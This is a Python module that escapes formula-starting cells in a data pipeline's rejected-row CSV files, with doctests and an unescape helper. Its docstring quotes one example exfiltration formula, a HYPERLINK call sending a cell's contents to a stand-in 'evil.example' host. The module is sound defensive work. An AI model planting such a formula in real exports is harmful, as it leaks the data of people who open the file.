"""Reject files are read in spreadsheets: their text cells are escaped against formula injection.

A rejected row is hostile input by definition, and ``WORKSPACE/rejected/rejected-*.csv`` is the
file an operator opens in a spreadsheet to see what went wrong. A cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is read there as a formula
(``=HYPERLINK("http://evil.example/?x="&A1, ...)`` sends the sheet's data away), so, as OWASP's
CSV-injection guidance says, such a cell is written with a single quote ``'`` in front: the
spreadsheet shows the text, quote hidden, and runs nothing. A cell that already begins with a
quote gets one more, so the escaping can be undone exactly. Every text cell is treated alike
(``value``, ``user_id``, ``raw``, and the file name and reason); numbers (``line``) are not text.

:func:`unescape_cells` gives the cells as they were in the source (forgetting a user matches
them there). Only this CSV is escaped: the ingest report and the JSON API show values as read.

>>> import pandas as pd
>>> escape_cells(pd.DataFrame({"value": ["=1+2", "-3", "ok", "'=x"]}))["value"].tolist()
["'=1+2", "'-3", 'ok', "''=x"]
>>> unescape_cells(escape_cells(pd.DataFrame({"value": ["=1+2", "'=x", "ok"]})))["value"].tolist()
['=1+2', "'=x", 'ok']
"""

from __future__ import annotations

from collections.abc import Callable

import pandas as pd

#: What a spreadsheet reads as the start of a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith((*FORMULA_STARTS, "'"))


def _escape(cell: object) -> object:
    return "'" + cell if isinstance(cell, str) and _needs_quote(cell) else cell


def _unescape(cell: object) -> object:
    return cell[1:] if isinstance(cell, str) and cell.startswith("'") and _needs_quote(cell[1:]) else cell


def escape_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells that a spreadsheet would run start with ``'``."""
    return _map_text(frame, _escape)


def unescape_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """The text cells of a reject file as they were before :func:`escape_cells`."""
    return _map_text(frame, _unescape)


def _map_text(frame: pd.DataFrame, cell: Callable[[object], object]) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        if pd.api.types.is_string_dtype(out[column].dtype):
            out[column] = out[column].map(cell)
    return out
